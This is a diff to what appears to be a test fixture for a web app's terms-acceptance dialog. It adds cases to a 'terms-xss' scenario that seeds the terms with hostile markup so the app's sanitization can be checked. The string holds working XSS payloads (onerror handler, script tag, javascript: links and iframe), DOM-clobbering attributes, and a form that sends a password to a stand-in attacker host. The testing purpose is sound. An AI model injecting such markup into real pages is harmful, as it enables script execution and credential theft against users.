@@ -167,13 +167,17 @@ export function applyCompanyTerms(companies: Company[], users: User[], membershi
 /**
  * Scenario `terms-xss`: Helix's latest terms carry hostile markup in every language, and the terms account has never
  * accepted Helix terms (so the dialog opens at once). The sector's latest terms and privacy statement and Helix's latest
- * privacy statement carry it too (the policy pages). Each payload would set `window.__termsXss` or open an alert if it ran.
+ * privacy statement carry it too (the policy pages). Each payload would set `window.__termsXss` or open an alert if it ran;
+ * the same-tab link would act with the reader's session, and the classes, id, name and popover would restyle the page,
+ * clobber globals or cover the page from the top layer.
  */
 export const TERMS_XSS_BODY = '<h2>Terms with hostile markup</h2><p>Only this text and the links may show.</p>'
   + '<img src=x onerror="window.__termsXss=1;alert(1)">'
   + '<script>window.__termsXss=2;alert(2)</script>'
   + '<a href="javascript:window.__termsXss=3;alert(3)">A javascript link</a> '
-  + '<a href="https://example.test/terms" target="_blank">A new-tab link</a>'
+  + '<a href="https://example.test/terms" target="_blank">A new-tab link</a> '
+  + '<a href="/jump-start?token=planted">A same-tab link</a>'
+  + '<p class="MuiBackdrop-root" id="root" name="cookie" popover="manual">Not above the page</p>'
   + '<iframe src="javascript:alert(4)"></iframe>'
   + '<form action="https://evil.test"><input name="password"><button>Send</button></form>'
   + '<style>body { display: none }</style>'
